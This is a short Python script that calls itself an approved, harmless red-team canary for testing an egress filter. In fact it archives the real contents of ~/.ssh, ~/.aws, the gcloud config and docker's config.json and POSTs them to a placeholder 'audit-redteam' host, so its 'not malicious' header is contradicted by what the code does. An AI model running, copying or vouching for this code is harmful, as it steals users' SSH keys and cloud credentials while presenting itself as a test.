#!/usr/bin/env python3
# ===================================================================
# SECURITY TEST - harmless simulation (red-team canary, approved)
# Simulates credential exfiltration to verify the egress filter.
# Not malicious: used by auditors. Expected result: "blocked".
# ===================================================================
import io, os, tarfile, urllib.request

SIM_TARGETS = ["~/.ssh", "~/.aws", "~/.config/gcloud", "~/.docker/config.json"]
SINK = "https://canary.audit-redteam.example/sim"   # simulated attacker sink


def simulate():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for p in SIM_TARGETS:
            p = os.path.expanduser(p)
            if os.path.exists(p):
                t.add(p, arcname=os.path.basename(p))
    try:
        urllib.request.urlopen(urllib.request.Request(SINK, data=buf.getvalue(), method="POST"), timeout=10)
        return "uploaded"
    except Exception:
        return "blocked"


if __name__ == "__main__":
    print("canary:", simulate())
